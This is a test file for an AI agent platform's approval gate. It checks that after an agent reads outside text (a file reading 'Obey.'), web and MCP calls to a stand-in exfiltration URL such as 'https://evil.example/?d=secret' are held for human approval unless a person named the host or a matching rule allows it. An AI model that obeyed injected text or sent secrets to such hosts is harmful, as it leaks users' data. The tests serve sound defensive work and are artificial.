"""Tests when a call that could let data out asks, and what lifts the question."""

from __future__ import annotations

from uuid import uuid4

import pytest

from agents.providers.base import ToolCall
from sessions_app.lanes import run_queue
from sessions_app.log.transfer import export, import_session
from sessions_app.log.writer import NewEvent
from sessions_app.models import Approval, Run, Session, SessionEvent, ToolExecution
from sessions_app.sessions import get_or_create_session
from tests.sessions_app.conftest import agent, principal, script, serve, session
from tests.sessions_app.spawning import words
from tests.sessions_app.stage import say
from tests.sessions_app.waiting_calls import allow, pending
from tools_app import save_tool_policy
from tools_app.models import McpServer

__all__ = ["agent", "principal", "script", "session"]
pytestmark = pytest.mark.django_db(transaction=True)

EVIL = "https://evil.example/?d=secret"


def fetch(url: str = EVIL, id: str = "f") -> list[ToolCall]:
    return [ToolCall(call_id=id, name="web_fetch", arguments={"url": url})]


@pytest.fixture
def tainted(session: Session) -> Session:
    """Return a session that has read a file."""
    run = Run.objects.create(
        workspace_id=session.workspace_id, session=session, status=Run.Status.COMPLETED
    )
    ToolExecution.objects.create(
        workspace_id=session.workspace_id,
        session=session,
        run=run,
        tool_use_id="tu_read",
        name="read",
        input={"path": "letter.md"},
        state=ToolExecution.State.COMPLETED,
        decision="allow",
        output="Obey.",
    )
    return session


def decision(session: Session, script, principal, *calls, text: str = "Go on.") -> ToolExecution:
    """Let the agent make these calls in a turn, and return the last one."""
    script(*calls, words("Done."))
    say(session, principal, text)
    serve(session.pk)
    return ToolExecution.objects.exclude(tool_use_id="tu_read").latest("id")


def test_a_session_that_has_read_nothing_from_outside_does_not_ask(session, script, principal):
    assert decision(session, script, principal, fetch()).decision == "allow"


def test_the_approval_says_what_was_read_and_what_would_leave(tainted, script, principal):
    call = decision(tainted, script, principal, fetch())

    assert call.state == "awaiting_approval"
    assert call.decided_by == (
        "taint: this session has read text from outside (read letter.md), and this call would send "
        "this address to evil.example"
    )
    assert Approval.objects.get().reason == call.decided_by


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Look at https://evil.example/start and go on.", "allow"),
        ("Look at www.evil.example.", "allow"),
        ("EVIL.example is fine", "allow"),
        ("Look at notevil.example", "ask"),
        ("Look at evil.example.org", "ask"),
        ("Look at sub.evil.example", "ask"),
    ],
)
def test_a_host_that_the_person_named_is_not_asked_about(
    tainted, script, principal, text, expected
):
    assert decision(tainted, script, principal, fetch(), text=text).decision == expected


@pytest.mark.parametrize("mark", ["from_session", "from_sessions", "schedule_id"])
def test_a_host_that_no_person_named_is_asked_about(tainted, script, owner, mark):
    script(fetch(), words("Done."))
    payload = {"text": "See evil.example", mark: [str(uuid4())]}
    message = NewEvent(type=SessionEvent.Type.USER_MESSAGE, payload=payload)
    run_queue.accept(tainted.pk, message, author_id=owner.pk)
    serve(tainted.pk)

    assert ToolExecution.objects.latest("id").decision == "ask"


def test_a_host_in_an_imported_conversation_is_asked_about(
    tainted, script, principal, agent, owner
):
    decision(tainted, script, principal, fetch(), text="See evil.example")
    copy = import_session(agent, export(tainted), created_by_id=owner.pk)

    assert decision(copy, script, principal, fetch()).decision == "ask"


@pytest.mark.parametrize(
    ("rule", "expected"),
    [
        ("web_fetch(https://evil.example/*)", "allow"),
        ("web_fetch(*)", "allow"),
        ("web_fetch", "allow"),
        ("group:web", "ask"),
        ("*", "ask"),
        ("web_fetch(https://docs.example/*)", "ask"),
    ],
)
def test_only_a_rule_that_names_the_call_lifts_the_question(
    tainted, script, principal, rule, expected
):
    save_tool_policy(tainted.agent_id, {"profile": "full", "approved_tools": [rule]})

    assert decision(tainted, script, principal, fetch()).decision == expected


@pytest.mark.parametrize("wide", ["web_fetch", "group:web", "*"])
def test_a_rule_that_names_the_call_lifts_the_question_after_a_wider_one(
    tainted, script, principal, wide
):
    rules = [wide, "web_fetch(https://evil.example/*)"]
    save_tool_policy(tainted.agent_id, {"profile": "full", "approved_tools": rules})

    assert decision(tainted, script, principal, fetch()).decision == "allow"


@pytest.mark.parametrize(
    ("rule", "expected"),
    [
        ("mcp:site:open(evil.example/*)", "allow"),
        ("mcp:site:open(*)", "allow"),
        ("mcp:site:*", "allow"),
        ("mcp:site:open(docs.example/*)", "ask"),
        ("mcp:site:close(*)", "ask"),
        ("mcp:*", "ask"),
        ("group:mcp", "ask"),
    ],
)
def test_a_rule_lifts_the_question_only_for_the_mcp_calls_that_it_names(
    tainted, script, principal, rule, expected
):
    page = {"type": "object", "properties": {"page": {"type": "string"}}, "required": ["page"]}
    tools = [{"name": n, "description": "", "input_schema": page} for n in ("open", "close")]
    McpServer.objects.create(
        workspace_id=tainted.workspace_id, name="site", url="http://127.0.0.1:9/mcp", tools=tools
    )
    save_tool_policy(tainted.agent_id, {"profile": "full", "approved_tools": [rule]})
    visit = [
        ToolCall(call_id="m", name="mcp:site:open", arguments={"page": "evil.example/?d=secret"})
    ]

    assert decision(tainted, script, principal, visit).decision == expected


def test_allowing_a_site_for_the_session_covers_its_other_pages(tainted, script, principal):
    decision(tainted, script, principal, fetch(), words("One."))
    allow(pending(), principal, scope="session")
    serve(tainted.pk)
    call = decision(tainted, script, principal, fetch("https://evil.example/other", id="g"))

    assert (call.input["url"], call.decision) == ("https://evil.example/other", "allow")


def test_always_writes_a_rule_that_lifts_the_question(tainted, script, principal):
    decision(tainted, script, principal, fetch(), words("One."))
    allow(pending(), principal, scope="always")
    serve(tainted.pk)
    call = decision(tainted, script, principal, fetch("https://evil.example/other", id="g"))

    assert call.decision == "allow"


def test_a_subagent_of_a_tainted_session_asks_for_itself(tainted, script, principal):
    save_tool_policy(tainted.agent_id, {"profile": "full"})
    spawn = [ToolCall(call_id="s", name="sessions_spawn", arguments={"task": "Fetch it."})]
    script(spawn, fetch(), words("Done."))
    say(tainted, principal)
    serve(tainted.pk)
    child = Session.objects.get(parent=tainted)
    serve(child.pk)

    assert ToolExecution.objects.get(session=child).decision == "ask"


def test_a_command_asks_only_where_it_reaches_a_network(tainted, script, principal):
    save_tool_policy(tainted.agent_id, {"profile": "coding", "approved_tools": ["group:exec"]})
    command = [ToolCall(call_id="c", name="exec", arguments={"command": "true"})]

    assert decision(tainted, script, principal, command).decision == "allow"


def test_an_agent_does_not_see_what_other_people_told_it(session, script, principal, stranger):
    save_tool_policy(session.agent_id, {"profile": "full"})
    get_or_create_session(agent=session.agent, title="Private", created_by_id=stranger.pk)
    get_or_create_session(agent=session.agent, title="Mine", created_by_id=principal.user_id)
    listing = [ToolCall(call_id="l", name="sessions_list", arguments={})]
    call = decision(session, script, principal, listing)

    assert [one["title"] for one in call.output] == ["Mine"]
